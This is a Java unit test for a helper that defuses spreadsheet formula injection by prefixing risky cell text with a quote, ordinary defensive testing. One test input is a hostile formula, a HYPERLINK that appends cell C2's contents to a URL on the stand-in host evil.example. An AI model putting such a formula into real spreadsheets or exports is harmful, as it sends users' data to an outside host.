package cn.capacityexit.reporting;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class SpreadsheetTextTest {

  @Test
  void textThatASpreadsheetWouldTakeForAFormulaGetsAQuote() {
    assertThat(SpreadsheetText.neutralise("=HYPERLINK(\"http://evil.example/?x=\"&C2)"))
        .isEqualTo("'=HYPERLINK(\"http://evil.example/?x=\"&C2)");
    assertThat(SpreadsheetText.neutralise("+1")).isEqualTo("'+1");
    assertThat(SpreadsheetText.neutralise("-2+3")).isEqualTo("'-2+3");
    assertThat(SpreadsheetText.neutralise("@SUM(A1)")).isEqualTo("'@SUM(A1)");
    assertThat(SpreadsheetText.neutralise("\t=1")).isEqualTo("'\t=1");
    assertThat(SpreadsheetText.neutralise("\r=1")).isEqualTo("'\r=1");
  }

  @Test
  void otherTextIsLeftAsItIs() {
    assertThat(SpreadsheetText.neutralise("济宁某水泥有限公司")).isEqualTo("济宁某水泥有限公司");
    assertThat(SpreadsheetText.neutralise("a=b")).isEqualTo("a=b");
    assertThat(SpreadsheetText.neutralise("2000")).isEqualTo("2000");
    assertThat(SpreadsheetText.neutralise("")).isEmpty();
    assertThat(SpreadsheetText.neutralise(null)).isNull();
  }
}
